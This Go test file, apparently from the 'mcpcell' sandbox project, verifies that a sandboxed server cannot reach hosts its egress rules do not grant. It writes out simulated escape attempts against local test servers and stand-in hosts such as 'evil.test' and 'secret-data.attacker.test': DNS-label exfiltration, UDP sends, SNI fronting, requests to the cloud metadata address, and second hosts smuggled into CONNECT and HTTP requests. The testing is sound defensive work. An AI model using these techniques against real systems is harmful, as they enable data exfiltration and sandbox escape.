package main

import (
	"encoding/json"
	"fmt"
	"maps"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mcpcell/mcpcell/internal/audit"
	"github.com/mcpcell/mcpcell/internal/egress/egresstest"
)

// The attacker's side of [network] hosts: a hostile server in a cell
// tries every way out it can think of, through the real CLI, namespace
// and relay. The "internet" is the test's own servers on 127.0.0.1: a DNS
// server that records every query, HTTPS servers and TCP and UDP
// listeners that count what reaches them. MCPCELL_TEST_EGRESS makes the
// relay resolve through that DNS server and dial only the routes below.

// The public addresses the test DNS gives; the relay's dials of them are
// routed to the servers on 127.0.0.1.
var (
	apiAddr  = netip.MustParseAddr("203.0.113.1") // api.example.test
	webAddr  = netip.MustParseAddr("203.0.113.3") // web.example.test, plain HTTP
	cdnAddr  = netip.MustParseAddr("203.0.113.2") // a.cdn.test, b.cdn.test
	evilAddr = netip.MustParseAddr("203.0.113.9") // evil.test, x.evil.test, a.b.cdn.test
)

// egressNet is the test's internet, and what each server saw.
type egressNet struct {
	dns   *egresstest.DNS
	api   *egresstest.Server   // api.example.test:443
	web   *egresstest.Server   // web.example.test:80
	cdn   *egresstest.Server   // *.cdn.test:443
	evil  *egresstest.Server   // evil.test:443: no main rule names it
	inner *egresstest.Server   // what loopback, private and metadata names resolve to
	alt   *egresstest.Listener // api.example.test:8443, not granted
	near  *egresstest.Listener // the host side's 127.0.0.1, dialled directly
	wide  *countedListener     // the host's own non-loopback address
	udp   *udpCatcher          // UDP on 127.0.0.1
	ca    string               // the PEM file trusting every server
	stub  string               // the DNS stub's address in the cell (resolv.conf)
	spec  string               // MCPCELL_TEST_EGRESS
}

func newEgressNet(t *testing.T) *egressNet {
	t.Helper()
	n := &egressNet{
		dns: egresstest.NewDNS(t, map[string][]netip.Addr{
			"api.example.test":     {apiAddr},
			"web.example.test":     {webAddr},
			"a.cdn.test":           {cdnAddr},
			"b.cdn.test":           {cdnAddr},
			"evil.test":            {evilAddr},
			"x.evil.test":          {evilAddr},
			"a.b.cdn.test":         {evilAddr},
			"loop.example.test":    {netip.MustParseAddr("127.0.0.1")},
			"private.example.test": {netip.MustParseAddr("10.1.2.3")},
			"meta.example.test":    {netip.MustParseAddr("169.254.169.254")},
			// Were the stub to forward, these would be seen.
			"secret-data.attacker.test": {evilAddr},
			"ungranted.example.test":    {evilAddr},
		}),
		api:   egresstest.NewHTTPS(t, "api.example.test"),
		web:   egresstest.NewHTTP(t),
		cdn:   egresstest.NewHTTPS(t, "a.cdn.test", "b.cdn.test"),
		evil:  egresstest.NewHTTPS(t, "evil.test", "x.evil.test", "a.b.cdn.test", "api.example.test"),
		inner: egresstest.NewHTTPS(t, "loop.example.test", "private.example.test", "meta.example.test", "10.1.2.3", "127.0.0.1", "169.254.169.254"),
		alt:   egresstest.NewListener(t, nil),
		near:  egresstest.NewListener(t, nil),
		udp:   newUDPCatcher(t),
		stub:  stubAddr(t),
	}
	n.wide = wideListener(t)
	dir := t.TempDir()
	n.ca = filepath.Join(dir, "ca.pem")
	var pem []byte
	for _, s := range []*egresstest.Server{n.api, n.cdn, n.evil, n.inner} {
		pem = append(pem, s.PEM...)
	}
	if err := os.WriteFile(n.ca, pem, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	routes := []string{"dns=" + n.dns.Addr.String()}
	route := func(from netip.Addr, port uint16, to netip.AddrPort) {
		routes = append(routes, fmt.Sprintf("route=%s>%s", netip.AddrPortFrom(from, port), to))
	}
	route(apiAddr, 443, n.api.Addr)
	route(apiAddr, 8443, n.alt.Addr)
	route(webAddr, 80, n.web.Addr)
	route(evilAddr, 80, n.web.Addr)
	route(cdnAddr, 443, n.cdn.Addr)
	route(evilAddr, 443, n.evil.Addr)
	for _, a := range []string{"127.0.0.1", "10.1.2.3", "169.254.169.254"} {
		route(netip.MustParseAddr(a), 443, n.inner.Addr)
	}
	n.spec = strings.Join(routes, " ")
	return n
}

// stubAddr is where the cell's DNS stub listens: the first nameserver of
// /etc/resolv.conf, as the plan reads it.
func stubAddr(t *testing.T) string {
	b, _ := os.ReadFile("/etc/resolv.conf")
	for _, line := range strings.Split(string(b), "\n") {
		if f := strings.Fields(line); len(f) >= 2 && f[0] == "nameserver" {
			if a, err := netip.ParseAddr(f[1]); err == nil && a.Zone() == "" {
				return netip.AddrPortFrom(a.Unmap(), 53).String()
			}
		}
	}
	return "127.0.0.1:53"
}

// wideListener listens on this machine's first non-loopback IPv4
// address (egresstest's listeners are on 127.0.0.1 only) and counts the
// connections it accepts.
func wideListener(t *testing.T) *countedListener {
	addrs, _ := net.InterfaceAddrs()
	var at string
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() && !p.Addr().IsLoopback() {
			at = p.Addr().String()
			break
		}
	}
	need(t, "a non-loopback IPv4 address on this machine", at != "")
	l, err := net.Listen("tcp4", at+":0")
	if err != nil {
		t.Fatal(err)
	}
	c := &countedListener{l: l, Addr: netip.MustParseAddrPort(l.Addr().String())}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			c.mu.Lock()
			c.n++
			c.mu.Unlock()
			conn.Close()
		}
	}()
	t.Cleanup(func() { l.Close(); <-done })
	return c
}

type countedListener struct {
	Addr netip.AddrPort
	l    net.Listener
	mu   sync.Mutex
	n    int
}

func (c *countedListener) Conns() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.n
}

// udpCatcher records the datagrams sent to it.
type udpCatcher struct {
	Addr netip.AddrPort
	mu   sync.Mutex
	got  []string
}

func newUDPCatcher(t *testing.T) *udpCatcher {
	pc, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	u := &udpCatcher{Addr: netip.MustParseAddrPort(pc.LocalAddr().String())}
	done := make(chan struct{})
	go func() {
		defer close(done)
		buf := make([]byte, 2048)
		for {
			k, _, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			u.mu.Lock()
			u.got = append(u.got, string(buf[:k]))
			u.mu.Unlock()
		}
	}()
	t.Cleanup(func() { pc.Close(); <-done })
	return u
}

func (u *udpCatcher) datagrams() []string {
	u.mu.Lock()
	defer u.mu.Unlock()
	return slices.Clone(u.got)
}

// egressProfile is a profile with hosts (or, with hosts empty, the
// network written as other), the CA's folder readable and named to the
// clients, and curl runnable.
func (n *egressNet) profile(t *testing.T, network string) string {
	t.Helper()
	curl, _ := exec.LookPath("curl")
	var exe []string
	if curl != "" {
		curl, _ = filepath.EvalSymlinks(curl)
		exe = append(exe, curl)
	}
	quoted, _ := json.Marshal(exe)
	return writeProfile(t, fmt.Sprintf(`[filesystem]
read = [%q]
exec = %s

[env]
set = { SSL_CERT_FILE = %q, NODE_EXTRA_CA_CERTS = %q }

[network]
%s
`, filepath.Dir(n.ca), quoted, n.ca, n.ca, network))
}

// start runs the fake server in the cell of profile, its relay wired to
// the test's internet.
func (n *egressNet) start(t *testing.T, profile string) *session {
	t.Helper()
	cmd := cellCommand(t, profile, os.Args[0], "__fakeserver")
	// An upstream proxy in mcpcell's own environment would take the
	// relay's dials past the test's routes.
	cmd.Env = slices.DeleteFunc(cmd.Env, func(kv string) bool {
		k, _, _ := strings.Cut(strings.ToUpper(kv), "=")
		return strings.HasSuffix(k, "_PROXY")
	})
	cmd.Env = append(cmd.Env, egressEnv+"="+n.spec)
	s := startSession(t, cmd)
	s.call(0, "initialize", `{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"c","version":"1"}}`)
	return s
}

// try calls the fake server's egress tool.
func (s *session) try(args map[string]any) string {
	s.t.Helper()
	s.mu.Lock()
	id := 100 + len(s.frames)
	s.mu.Unlock()
	b, _ := json.Marshal(map[string]any{"name": "egress", "arguments": args})
	return resultText(s.call(id, "tools/call", string(b)))
}

// mainHosts are the rules of the cell under attack. The rules on the
// ports of the host side's listeners, and on 8443, open those ports in
// Landlock, so that only the namespace stands between the server and
// them.
func (n *egressNet) mainHosts() string {
	return fmt.Sprintf(`hosts = ["api.example.test:443", "web.example.test:80", "*.cdn.test:443", "loop.example.test:443", "private.example.test:443", "meta.example.test:443", "near.example.test:%d", "wide.example.test:%d", "other.example.test:8443"]`, n.near.Addr.Port(), n.wide.Addr.Port())
}

// counts are what every server and listener of the test's internet has
// seen, to compare before and after an attempt.
func (n *egressNet) counts() map[string]int {
	return map[string]int{
		"api": n.api.Conns(), "web": n.web.Conns(), "cdn": n.cdn.Conns(), "evil": n.evil.Conns(), "inner": n.inner.Conns(),
		"alt": n.alt.Conns(), "near": n.near.Conns(), "wide": n.wide.Conns(),
		"udp": len(n.udp.datagrams()), "dns": len(n.dns.Queries()),
	}
}

// reachedBy is what an attempt reached once that has settled: want, or
// what there is after 2 s. A server counts a datagram or a connection
// on its own goroutine, a moment after the sender is done.
func (n *egressNet) reachedBy(before map[string]int, want []string) []string {
	deadline := time.Now().Add(2 * time.Second)
	for {
		got := reached(before, n.counts())
		if slices.Equal(got, want) || time.Now().After(deadline) {
			return got
		}
		time.Sleep(5 * time.Millisecond)
	}
}

// reached is what changed between two counts, as "server+N".
func reached(before, after map[string]int) []string {
	var out []string
	for _, k := range slices.Sorted(func(yield func(string) bool) {
		for k := range after {
			if !yield(k) {
				return
			}
		}
	}) {
		if d := after[k] - before[k]; d != 0 {
			out = append(out, fmt.Sprintf("%s+%d", k, d))
		}
	}
	return out
}

// egressRecords are the session's egress records.
func egressRecords(t *testing.T, profile string) []audit.Record {
	var out []audit.Record
	for _, r := range auditRecords(t, profile) {
		if strings.HasPrefix(r.Method, "egress") {
			out = append(out, r)
		}
	}
	return out
}

// A granted name works every way a client goes: through the proxy the
// cell names (Go's net/http, curl, a raw CONNECT) and transparently
// (Go's net/http, curl told to ignore the proxy, Node 20's fetch, which
// ignores proxy variables), TLS verified against the test's CA. Each
// reaches the granted server once and nothing else; the audit log has
// one allow record for each, by the way it came.
func TestEgressGrantedWays(t *testing.T) {
	n := newEgressNet(t)
	path := n.profile(t, n.mainHosts())
	s := n.start(t, path)
	curl, errCurl := exec.LookPath("curl")
	node, errNode := exec.LookPath("node")
	const api = "https://api.example.test/"
	cases := []struct {
		name, way string
		args      map[string]any
		want      string
		server    string
	}{
		{"Go, transparent", "transparent", map[string]any{"what": "get", "target": api, "ca": n.ca}, "ok: 200 hello from api.example.test", "api"},
		{"Go, proxy", "proxy", map[string]any{"what": "get", "target": api, "ca": n.ca, "proxy": true}, "ok: 200 hello from api.example.test", "api"},
		{"CONNECT", "proxy", map[string]any{"what": "connect", "target": "api.example.test:443", "sni": "api.example.test", "ca": n.ca}, "ok: 200 hello from api.example.test", "api"},
		{"wildcard, transparent", "transparent", map[string]any{"what": "get", "target": "https://a.cdn.test/", "ca": n.ca}, "ok: 200 hello from a.cdn.test", "cdn"},
		{"wildcard, proxy", "proxy", map[string]any{"what": "get", "target": "https://b.cdn.test/", "ca": n.ca, "proxy": true}, "ok: 200 hello from b.cdn.test", "cdn"},
		{"curl, proxy", "proxy", map[string]any{"what": "exec", "cmd": []string{curl, "-sS", "--max-time", "5", "--cacert", n.ca, api}}, "ok: hello from api.example.test", "api"},
		{"curl, transparent", "transparent", map[string]any{"what": "exec", "cmd": []string{curl, "-sS", "--max-time", "5", "--noproxy", "*", "--cacert", n.ca, api}}, "ok: hello from api.example.test", "api"},
		{"Node 20 fetch, transparent", "transparent", map[string]any{"what": "exec", "cmd": []string{node, "-e", nodeFetch, api}}, "ok: hello from api.example.test", "api"},
	}
	var want []string
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if strings.HasPrefix(c.name, "curl") {
				need(t, "curl on the PATH", errCurl == nil)
			}
			if strings.HasPrefix(c.name, "Node") {
				need(t, "node on the PATH", errNode == nil)
			}
			before := n.counts()
			if got := s.try(c.args); got != c.want {
				t.Errorf("%s, want %s", got, c.want)
			}
			host := strings.TrimPrefix(strings.TrimPrefix(c.want, "ok: 200 hello from "), "ok: hello from ")
			// The relay resolved the name: one query each for A and AAAA.
			if reach := []string{c.server + "+1", "dns+2"}; !slices.Equal(n.reachedBy(before, reach), reach) {
				t.Errorf("reached %v, want %v", reached(before, n.counts()), reach)
			}
			want = append(want, "egress/"+c.way+" "+host+":443 allow")
		})
	}
	s.stop()
	var got []string
	for _, r := range egressRecords(t, path) {
		got = append(got, r.Method+" "+r.Subject+" "+r.Decision)
		// The rule and its line, the address dialled, the bytes each
		// way, the duration.
		rule := strings.TrimSuffix(r.Subject, ":443")
		if strings.HasSuffix(rule, ".cdn.test") {
			rule = "*.cdn.test"
		}
		if !strings.HasPrefix(r.Rule, "network.hosts "+rule+":443 ("+path+":") || !allowNote.MatchString(r.Note) || r.DurationMs <= 0 {
			b, _ := json.Marshal(r)
			t.Errorf("record %s: want the rule %s:443 with its line, %s in the note, a duration", b, rule, allowNote)
		}
	}
	if !slices.Equal(got, want) {
		t.Errorf("egress records:\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

var allowNote = regexp.MustCompile(`^dialled 203\.0\.113\.[12]:443; [1-9][0-9]* bytes up, [1-9][0-9]* down`)

// nodeFetch fetches argv[1] with the global fetch and prints the body.
const nodeFetch = `fetch(process.argv[1]).then(r => r.text()).then(t => console.log(t), e => { console.error(String(e.cause || e)); process.exit(1) })`

// stop ends the session: mcpcell's input closes, and it exits once the
// server, and the relay's last records, are done.
func (s *session) stop() {
	s.t.Helper()
	s.in.Close()
	if err := s.cmd.Wait(); err != nil {
		s.t.Fatalf("mcpcell: %v\n%s", err, s.stderr.String())
	}
}

// egressAttempt is one way out a hostile server tries.
type egressAttempt struct {
	name string
	args map[string]any
	want string // the start of the try's answer
	// reached is what the test's internet saw ("server+N", sorted): in a
	// cell that refuses, nothing but the relay's own lookups.
	reached []string
	// record is the egress audit record the attempt makes, as "method
	// subject decision", "" for none (the relay never saw it).
	record string
}

// refusedAttempts are what the cell of mainHosts refuses; the control
// runs each again where it goes through (TestEgressControls).
func refusedAttempts(n *egressNet) []egressAttempt {
	tcp := func(at string) map[string]any { return map[string]any{"what": "tcp", "target": at} }
	tlsTo := func(at, sni string) map[string]any {
		return map[string]any{"what": "tls", "target": at, "sni": sni, "ca": n.ca}
	}
	connect := func(at, sni string) map[string]any {
		return map[string]any{"what": "connect", "target": at, "sni": sni, "ca": n.ca}
	}
	raw := func(at, data string) map[string]any { return map[string]any{"what": "raw", "target": at, "data": data} }
	get := func(url string) map[string]any { return map[string]any{"what": "get", "target": url, "ca": n.ca} }
	dns := func(over, server, name string) map[string]any {
		return map[string]any{"what": over, "target": server, "data": name}
	}
	const proxy = "127.0.0.1:3128"
	return []egressAttempt{
		{name: "a literal address: the host side's 127.0.0.1", args: tcp(n.near.Addr.String()), want: "denied: dial tcp " + n.near.Addr.String() + ": connect: connection refused"},
		{name: "a literal address: the host's own", args: tcp(n.wide.Addr.String()), want: "denied: dial tcp " + n.wide.Addr.String() + ": connect: network is unreachable"},
		{name: "a granted name on another port", args: tcp("api.example.test:8443"), want: "denied: dial tcp 127.77.0.1:8443: connect: connection refused"},
		{name: "a granted name on another port, CONNECT", args: connect("api.example.test:8443", "api.example.test"), want: "denied: the proxy: 403 Forbidden", record: "egress/proxy api.example.test:8443 deny"},
		{name: "a wildcard with a name it does not cover", args: tlsTo("a.cdn.test:443", "x.evil.test"), want: "denied: TLS: ", record: "egress/transparent x.evil.test:443 deny"},
		{name: "a wildcard with two labels", args: tlsTo("a.cdn.test:443", "a.b.cdn.test"), want: "denied: TLS: ", record: "egress/transparent a.b.cdn.test:443 deny"},
		{name: "CONNECT to a name no rule grants", args: connect("evil.test:443", "evil.test"), want: "denied: the proxy: 403 Forbidden", record: "egress/proxy evil.test:443 deny"},
		{name: "CONNECT to a granted name, an ungranted one in TLS", args: connect("api.example.test:443", "evil.test"), want: "denied: TLS: ", record: "egress/proxy api.example.test:443 deny"},
		{name: "CONNECT to a granted name, another granted one in TLS (fronting)", args: connect("api.example.test:443", "b.cdn.test"), want: "denied: TLS: ", record: "egress/proxy api.example.test:443 deny"},
		{name: "a granted name's listener, a granted other name in TLS", args: tlsTo("api.example.test:443", "b.cdn.test"), want: "denied: TLS: ", record: "egress/transparent api.example.test:443 deny"},
		{name: "UDP to the host side", args: map[string]any{"what": "udp", "target": n.udp.Addr.String(), "data": "exfiltrated"}, want: "ok: sent"},
		{name: "a name that resolves to loopback", args: get("https://loop.example.test/"), want: "denied: ", reached: []string{"dns+2"}, record: "egress/transparent loop.example.test:443 deny"},
		{name: "a name that resolves to a private address", args: get("https://private.example.test/"), want: "denied: ", reached: []string{"dns+2"}, record: "egress/transparent private.example.test:443 deny"},
		{name: "a name that resolves to the metadata address", args: get("https://meta.example.test/"), want: "denied: ", reached: []string{"dns+2"}, record: "egress/transparent meta.example.test:443 deny"},
		{name: "DNS: a name no rule grants", args: dns("dns", n.stub, "ungranted.example.test"), want: "ok: RCodeNameError []"},
		{name: "DNS: data as labels", args: dns("dns", n.stub, "secret-data.attacker.test"), want: "ok: RCodeNameError []"},
		{name: "DNS over TCP: data as labels", args: dns("dns-tcp", n.stub, "secret-data.attacker.test"), want: "ok: RCodeNameError []"},
		{name: "DNS: the Go resolver", args: map[string]any{"what": "lookup", "target": "secret-data.attacker.test"}, want: "denied: lookup secret-data.attacker.test on " + n.stub + ": no such host"},
		{name: "DNS: straight to the host side's server", args: dns("dns", n.dns.Addr.String(), "secret-data.attacker.test"), want: "denied: "},
		{name: "HTTP: absolute form to a name no rule grants", args: raw(proxy, "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"), want: "ok: HTTP/1.1 403 Forbidden", record: "egress/proxy evil.test:80 deny"},
		{name: "HTTP: a granted name's listener, another Host", args: raw("web.example.test:80", "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"), want: "ok: HTTP/1.1 403 Forbidden", record: "egress/transparent web.example.test:80 deny"},
	}
}

// A hostile server in a cell of mainHosts tries each way out that no
// rule grants: each is refused, the server or listener that would have
// received it sees nothing (the relay's own lookups of granted names
// aside), and the relay writes one deny record for each connection it
// saw (the repeats of a target in one second as a count), and the
// refused DNS names counted per name and second.
// egressControls runs the same attempts where they go through.
func TestEgressRefusedWays(t *testing.T) {
	n := newEgressNet(t)
	path := n.profile(t, n.mainHosts())
	s := n.start(t, path)
	var want []string
	first, all := n.counts(), map[string]int{}
	for _, a := range refusedAttempts(n) {
		t.Run(a.name, func(t *testing.T) {
			before := n.counts()
			if got := s.try(a.args); !strings.HasPrefix(got, a.want) {
				t.Errorf("%s, want %s…", got, a.want)
			}
			if got := n.reachedBy(before, a.reached); !slices.Equal(got, a.reached) {
				t.Errorf("reached %v, want %v", got, a.reached)
			}
			if a.record != "" {
				want = append(want, a.record)
			}
			for _, r := range a.reached {
				k, v, _ := strings.Cut(r, "+")
				d, _ := strconv.Atoi(v)
				all[k] += d
			}
		})
	}
	// Another process: a child of the server (curl) is in the same
	// namespace and cell, and reaches the host side no more than the
	// server does, directly or by the proxy's name for a literal address.
	t.Run("a child of the server: curl to the host side's 127.0.0.1", func(t *testing.T) {
		curl, err := exec.LookPath("curl")
		need(t, "curl on the PATH", err == nil)
		before := n.counts()
		for _, args := range [][]string{
			{"--noproxy", "*", "http://" + n.near.Addr.String() + "/"},
			{"http://" + n.near.Addr.String() + "/"},
		} {
			got := s.try(map[string]any{"what": "exec", "cmd": append([]string{curl, "-fsS", "--max-time", "5"}, args...)})
			if !strings.HasPrefix(got, "denied: ") {
				t.Errorf("curl %v: %s, want it refused", args, got)
			}
		}
		if got := n.reachedBy(before, nil); len(got) != 0 {
			t.Errorf("reached %v, want nothing", got)
		}
	})
	want = append(want, "egress/proxy 127.0.0.1:"+strconv.Itoa(int(n.near.Addr.Port()))+" deny")
	if q := n.dns.Queries(); slices.ContainsFunc(q, func(q string) bool { return !strings.Contains(q, ".example.test") }) {
		t.Errorf("the host side's DNS server saw %v: the stub forwarded a name", q)
	}
	s.stop()
	// Nothing reached anything late either, once the relay has closed.
	if got, want := reached(first, n.counts()), reached(map[string]int{}, all); !slices.Equal(got, want) {
		t.Errorf("all attempts reached %v, want %v", got, want)
	}
	var got []string
	dnsCount := map[string]int{}
	for _, r := range egressRecords(t, path) {
		if r.Method == "egress/dns" {
			if r.Decision != "deny" || r.Count < 1 {
				t.Errorf("DNS record %+v: want deny with a count", r)
			}
			dnsCount[r.Subject] += r.Count
			continue
		}
		for range max(r.Count, 1) { // refusals of a target in one second: the first, then a count
			got = append(got, r.Method+" "+r.Subject+" "+r.Decision)
		}
		if r.Note == "" || strings.Contains(r.Note, "dialled") {
			b, _ := json.Marshal(r)
			t.Errorf("deny record %s: want the reason, and nothing dialled", b)
		}
	}
	slices.Sort(got) // a count comes when its second ends
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("egress records, with their counts:\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	// Asked three times: by UDP, by TCP, by the Go resolver (A only).
	if want := map[string]int{"ungranted.example.test": 1, "secret-data.attacker.test": 3}; !maps.Equal(dnsCount, want) {
		t.Errorf("refused DNS names: %v, want %v", dnsCount, want)
	}
}

// The controls of TestEgressRefusedWays: each attempt it refuses goes
// through without the namespace (a cell of ports and UDP, no hosts) or
// with the rule granted, and reaches the server or listener that the
// refusal kept it from; so a refusal there is the cell's doing.
func TestEgressControls(t *testing.T) {
	n := newEgressNet(t)
	tcp := func(at string) map[string]any { return map[string]any{"what": "tcp", "target": at} }
	tlsTo := func(at, sni string) map[string]any {
		return map[string]any{"what": "tls", "target": at, "sni": sni, "ca": n.ca}
	}
	connect := func(at, sni string) map[string]any {
		return map[string]any{"what": "connect", "target": at, "sni": sni, "ca": n.ca}
	}
	raw := func(at, data string) map[string]any { return map[string]any{"what": "raw", "target": at, "data": data} }
	get := func(url string) map[string]any { return map[string]any{"what": "get", "target": url, "ca": n.ca} }
	const proxy = "127.0.0.1:3128"
	cells := []struct {
		name, network string
		attempts      []egressAttempt
	}{
		{
			name:    "no namespace: ports and UDP",
			network: fmt.Sprintf("ports = [%d, %d]\nudp = true", n.near.Addr.Port(), n.wide.Addr.Port()),
			attempts: []egressAttempt{
				{name: "a literal address: the host side's 127.0.0.1", args: tcp(n.near.Addr.String()), want: "ok: connected", reached: []string{"near+1"}},
				{name: "a literal address: the host's own", args: tcp(n.wide.Addr.String()), want: "ok: connected", reached: []string{"wide+1"}},
				{name: "UDP to the host side", args: map[string]any{"what": "udp", "target": n.udp.Addr.String(), "data": "exfiltrated"}, want: "ok: sent", reached: []string{"udp+1"}},
				{name: "DNS: straight to the host side's server", args: map[string]any{"what": "dns", "target": n.dns.Addr.String(), "data": "secret-data.attacker.test"}, want: "ok: RCodeSuccess [203.0.113.9]", reached: []string{"dns+1"}},
			},
		},
		{
			name:    "the rules granted",
			network: `hosts = ["api.example.test:443", "api.example.test:8443", "web.example.test:80", "*.cdn.test:443", "evil.test:443", "evil.test:80", "10.1.2.3:443", "127.0.0.1:443", "169.254.169.254:443", "ungranted.example.test:443"]`,
			attempts: []egressAttempt{
				{name: "a granted name on another port", args: raw("api.example.test:8443", "ping"), want: "ok: ping", reached: []string{"alt+1", "dns+2"}},
				{name: "a granted name on another port, CONNECT", args: raw(proxy, "CONNECT api.example.test:8443 HTTP/1.1\r\nHost: api.example.test:8443\r\n\r\nping"), want: "ok: HTTP/1.1 200 Connection Established\r\n\r\nping", reached: []string{"alt+1", "dns+2"}},
				{name: "a wildcard with a name it covers", args: tlsTo("a.cdn.test:443", "b.cdn.test"), want: "ok: 200 hello from b.cdn.test", reached: []string{"cdn+1", "dns+2"}},
				{name: "CONNECT to a name a rule grants", args: connect("evil.test:443", "evil.test"), want: "ok: 200 hello from evil.test", reached: []string{"dns+2", "evil+1"}},
				{name: "CONNECT to a granted name, the same in TLS", args: connect("api.example.test:443", "api.example.test"), want: "ok: 200 hello from api.example.test", reached: []string{"api+1", "dns+2"}},
				{name: "a granted name's listener, the same in TLS", args: tlsTo("api.example.test:443", "api.example.test"), want: "ok: 200 hello from api.example.test", reached: []string{"api+1", "dns+2"}},
				{name: "a rule naming the loopback address", args: tlsTo("127.0.0.1:443", "-"), want: "ok: 200 hello from ", reached: []string{"inner+1"}},
				{name: "a rule naming the private address", args: get("https://10.1.2.3/"), want: "ok: 200 hello from 10.1.2.3", reached: []string{"inner+1"}},
				{name: "a rule naming the metadata address", args: tlsTo("169.254.169.254:443", "-"), want: "ok: 200 hello from ", reached: []string{"inner+1"}},
				{name: "DNS: a name a rule grants", args: map[string]any{"what": "dns", "target": n.stub, "data": "ungranted.example.test"}, want: "ok: RCodeSuccess [127.77.0."},
				{name: "HTTP: absolute form to a name a rule grants", args: raw(proxy, "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"), want: "ok: HTTP/1.1 200 OK", reached: []string{"dns+2", "web+1"}},
				{name: "HTTP: a granted name's listener, its own Host", args: raw("web.example.test:80", "GET / HTTP/1.1\r\nHost: web.example.test\r\n\r\n"), want: "ok: HTTP/1.1 200 OK", reached: []string{"dns+2", "web+1"}},
			},
		},
	}
	for _, cell := range cells {
		t.Run(cell.name, func(t *testing.T) {
			s := n.start(t, n.profile(t, cell.network))
			for _, a := range cell.attempts {
				t.Run(a.name, func(t *testing.T) {
					before := n.counts()
					if got := s.try(a.args); !strings.HasPrefix(got, a.want) {
						t.Errorf("%s, want %s…", got, a.want)
					}
					if got := n.reachedBy(before, a.reached); !slices.Equal(got, a.reached) {
						t.Errorf("reached %v, want %v", got, a.reached)
					}
				})
			}
		})
	}
}

// The attacker-side tests again as uid 65534 (setpriv), whose helper
// sets the namespace up with ambient capabilities only: the granted
// ways, every refusal and every control. The test binary is copied to a
// folder that user can read; its HOME and projects are its own.
func TestEgressUnprivileged(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("skipped: needs root to become uid 65534 (this run is unprivileged already)")
	}
	setpriv, err := exec.LookPath("setpriv")
	need(t, "setpriv (util-linux) on the PATH", err == nil)
	dir, err := os.MkdirTemp("/tmp", "mcpcell-egress-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	bin := filepath.Join(dir, "mcpcell.test")
	home := filepath.Join(dir, "home")
	data, err := os.ReadFile(os.Args[0])
	if err == nil {
		err = os.WriteFile(bin, data, 0o755)
	}
	if err == nil {
		err = os.Chmod(dir, 0o755)
	}
	if err == nil {
		err = os.Mkdir(home, 0o700)
	}
	if err == nil {
		err = os.Chown(home, 65534, 65534)
	}
	if err != nil {
		t.Fatal(err)
	}
	const run = "^TestEgress(GrantedWays|RefusedWays|Controls)$"
	cmd := exec.Command(setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", bin, "-test.run="+run, "-test.v", "-test.count=1")
	cmd.Dir = home
	cmd.Env = []string{"PATH=/usr/bin:/bin", "TMPDIR=/tmp", "HOME=" + home, "MCPCELL_REQUIRE_ALL=" + os.Getenv("MCPCELL_REQUIRE_ALL")}
	out, err := cmd.CombinedOutput()
	for _, name := range []string{"TestEgressGrantedWays", "TestEgressRefusedWays", "TestEgressControls"} {
		if !strings.Contains(string(out), "--- PASS: "+name+" ") {
			t.Errorf("%s as uid 65534 did not pass", name)
		}
	}
	if err != nil || t.Failed() || strings.Contains(string(out), "--- SKIP") {
		t.Fatalf("as uid 65534: %v\n%s", err, out)
	}
}

// What else an attacker who read internal/egress would try, in the cell
// of mainHosts: other spellings of this machine's addresses, another
// host's address, literal addresses through the proxy, a CONNECT target
// that hides a second host, a TLS client that names no server, and a
// second host smuggled into HTTP (a Host header beside an absolute URL,
// a second request after the first). Each is refused or reaches only
// the granted server, as the granted name.
func TestEgressFurtherAttempts(t *testing.T) {
	n := newEgressNet(t)
	s := n.start(t, n.profile(t, n.mainHosts()))
	near := strconv.Itoa(int(n.near.Addr.Port()))
	tcp := func(at string) map[string]any { return map[string]any{"what": "tcp", "target": at} }
	raw := func(at, data string) map[string]any { return map[string]any{"what": "raw", "target": at, "data": data} }
	const proxy = "127.0.0.1:3128"
	for _, a := range []egressAttempt{
		{name: "IPv6 loopback", args: tcp("[::1]:" + near), want: "denied: dial tcp [::1]:" + near + ": connect: connection refused"},
		{name: "the unspecified address", args: tcp("0.0.0.0:" + near), want: "denied: dial tcp 0.0.0.0:" + near + ": connect: connection refused"},
		{name: "a granted name's address, another rule's port", args: tcp("127.77.0.1:8443"), want: "denied: dial tcp 127.77.0.1:8443: connect: connection refused"},
		{name: "a granted name's address, port 80", args: tcp("127.77.0.1:80"), want: "denied: dial tcp 127.77.0.1:80: connect: connection refused"},
		{name: "CONNECT to the host side's 127.0.0.1", args: raw(proxy, "CONNECT 127.0.0.1:"+near+" HTTP/1.1\r\n\r\n"), want: "ok: HTTP/1.1 403 Forbidden"},
		{name: "CONNECT to IPv6 loopback", args: raw(proxy, "CONNECT [::1]:"+near+" HTTP/1.1\r\n\r\n"), want: "ok: HTTP/1.1 403 Forbidden"},
		{name: "CONNECT to a granted name's public address", args: raw(proxy, "CONNECT 203.0.113.1:443 HTTP/1.1\r\n\r\n"), want: "ok: HTTP/1.1 403 Forbidden"},
		{name: "CONNECT to a granted name on port 0", args: raw(proxy, "CONNECT api.example.test:0 HTTP/1.1\r\n\r\n"), want: "ok: HTTP/1.1 400 Bad Request"},
		{name: "CONNECT to userinfo and a second host", args: raw(proxy, "CONNECT api.example.test:443@evil.test:443 HTTP/1.1\r\n\r\n"), want: "ok: HTTP/1.1 400 Bad Request"},
